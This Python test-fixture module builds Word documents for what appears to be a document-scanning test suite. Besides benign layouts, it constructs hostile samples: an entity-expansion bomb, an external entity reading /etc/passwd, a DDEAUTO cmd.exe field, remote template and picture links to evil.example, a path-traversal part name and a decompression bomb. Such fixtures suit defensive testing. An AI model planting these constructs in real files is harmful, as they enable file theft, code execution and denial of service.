"""Word documents."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from support.made import sheet
from support.made.ole import container
from support.made.parts import APP, CORE, CUSTOM, lines, one, package, relations, types

_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_HARMLESS = "<w:p><w:r><w:t>Kính gửi các khu dân cư.</w:t></w:r></w:p>"


def parts(
    body: str, more: Mapping[str, str | bytes] | None = None, content_type: str = _MAIN
) -> dict[str, str | bytes]:
    """Return the parts of a document with a body in WordprocessingML, and further parts."""
    return {
        "[Content_Types].xml": types("word/document.xml", content_type),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", False)),
        "word/document.xml": f"<w:document {_W}><w:body>{body}</w:body></w:document>",
        **(more or {}),
    }


def document(body: str, more: Mapping[str, str | bytes] | None = None, content_type: str = _MAIN) -> bytes:
    """Return a document with a body in WordprocessingML, and further parts."""
    return package(parts(body, more, content_type))


def paragraphs(text: str) -> str:
    """Return one paragraph a line."""
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines(text))


def plain(text: str) -> bytes:
    """One paragraph a line."""
    return document(paragraphs(text))


def split_runs(text: str) -> bytes:
    """Every letter in a run of its own, as Word writes what was typed with many corrections."""
    runs = (
        "<w:p>" + "".join(f'<w:r><w:t xml:space="preserve">{letter}</w:t></w:r>' for letter in line) + "</w:p>"
        for line in text.splitlines()
    )
    return document("".join(runs))


def table(text: str) -> bytes:
    """A table: one row a line, cells divided by ``|``."""
    rows = (
        "<w:tr>" + "".join(f"<w:tc>{paragraphs(cell)}</w:tc>" for cell in line.split("|")) + "</w:tr>"
        for line in text.splitlines()
    )
    return document(f"<w:tbl>{''.join(rows)}</w:tbl>")


def beside(part: str, root: str, each: str = "") -> Callable[[str], bytes]:
    """The text in a part of its own (a footer, a comment), beside a harmless body."""

    def build(text: str) -> bytes:
        inner = f"<w:{each}>{paragraphs(text)}</w:{each}>" if each else paragraphs(text)
        return document(_HARMLESS, {f"word/{part}.xml": f"<w:{root} {_W}>{inner}</w:{root}>"})

    return build


def deleted(text: str) -> bytes:
    """The text deleted with tracked changes: gone from the page, still in the file."""
    return document(f"{_HARMLESS}<w:p><w:del><w:r><w:delText>{one(text)}</w:delText></w:r></w:del></w:p>")


def hidden(text: str) -> bytes:
    """The text formatted as hidden."""
    return document(f"{_HARMLESS}<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{one(text)}</w:t></w:r></w:p>")


def properties(text: str) -> bytes:
    """The text as the title among the properties."""
    return document(_HARMLESS, {"docProps/core.xml": CORE.format(text=one(text))})


def custom(text: str) -> bytes:
    """The text as a property of the clerk's own, the company in the properties of the program."""
    company = APP.format(inner="<Company>UBND phường</Company>")
    return document(_HARMLESS, {"docProps/custom.xml": CUSTOM.format(text=one(text)), "docProps/app.xml": company})


def macro(text: str) -> bytes:
    """A document with macros, renamed from docm."""
    return document(paragraphs(text), {"word/vbaProject.bin": container()}, _MACRO)


def renamed_macro(text: str) -> bytes:
    """A document whose part with macros has another name, found by its relation only."""
    more = {"word/x.bin": container(), "word/_rels/document.xml.rels": relations(("vbaProject", "x.bin", False))}
    return document(paragraphs(text), more)


def related(kind: str, target: str) -> Callable[[str], bytes]:
    """A document with a relation to something outside."""

    def build(text: str) -> bytes:
        part = "word/_rels/settings.xml.rels" if kind == "attachedTemplate" else "word/_rels/document.xml.rels"
        return document(paragraphs(text), {part: relations((kind, target, True))})

    return build


def containing(name: str) -> Callable[[str], bytes]:
    """A document with a part that holds a foreign object."""
    return lambda text: document(paragraphs(text), {f"word/{name}": container()})


def with_workbook(text: str) -> bytes:
    """A chart whose workbook holds the text."""
    return document(_HARMLESS, {"word/embeddings/bang.xlsx": sheet.plain(text)})


def field(code: str) -> Callable[[str], bytes]:
    """A document with a field."""
    return lambda text: document(paragraphs(text) + f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>")


def entities(text: str) -> bytes:
    """A body with entities that grow without end."""
    bomb = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    body = f'<!DOCTYPE w [<!ENTITY a0 "ha">{bomb}]><w:document {_W}><w:body><w:p>&a9;{one(text)}</w:p></w:body></w:document>'
    return package(parts("") | {"word/document.xml": body})


def outside(text: str) -> bytes:
    """A body that asks for a file of the machine."""
    body = (
        f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {_W}><w:p>&x;{one(text)}</w:p></w:document>'
    )
    return package(parts("") | {"word/document.xml": body})


def broken(text: str) -> bytes:
    """A body that breaks off in the middle."""
    return package(parts("") | {"word/document.xml": f"<w:document {_W}><w:body><w:p>{one(text)}"})


def bomb(text: str) -> bytes:
    """A body of many megabytes of blanks, a few kilobytes in the package."""
    return document(paragraphs(text) + " " * 12_000_000)


def climbing(text: str) -> bytes:
    """A part whose name leads out of the package."""
    return document(paragraphs(text), {"word/../../../tmp/x.xml": "<x/>"})


RECIPES = {
    "docx": plain,
    "docx-split-runs": split_runs,
    "docx-table": table,
    "docx-header": beside("header1", "hdr"),
    "docx-footer": beside("footer1", "ftr"),
    "docx-footnote": beside("footnotes", "footnotes", "footnote"),
    "docx-endnote": beside("endnotes", "endnotes", "endnote"),
    "docx-comment": beside("comments", "comments", "comment"),
    "docx-deleted": deleted,
    "docx-hidden": hidden,
    "docx-properties": properties,
    "docx-custom-properties": custom,
    "docx-macro": macro,
    "docx-renamed-macro": renamed_macro,
    "docx-external-template": related("attachedTemplate", "https://evil.example/a.dotm"),
    "docx-remote-picture": related("image", "https://evil.example/a.png"),
    "docx-hyperlink": related("hyperlink", "https://chinhphu.example/"),
    "docx-ole": containing("embeddings/oleObject1.bin"),
    "docx-embedded": with_workbook,
    "docx-activex": containing("activeX/activeX1.bin"),
    "docx-dde": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
    "docx-page-number": field(" PAGE \\* MERGEFORMAT "),
    "docx-entities": entities,
    "docx-outside-entity": outside,
    "docx-broken": broken,
    "docx-bomb": bomb,
    "docx-climbing": climbing,
}
